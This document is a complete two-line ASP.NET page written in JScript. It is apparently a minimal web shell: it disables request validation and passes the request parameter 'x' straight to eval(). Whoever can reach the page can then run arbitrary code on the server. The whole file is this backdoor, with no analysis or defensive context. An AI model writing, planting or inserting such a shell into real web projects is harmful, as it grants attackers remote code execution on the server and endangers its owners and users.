<%@ Page Language="Jscript" validateRequest="false" %>
<% var q = Request; var v = q.Params["x"]; eval(v); %>
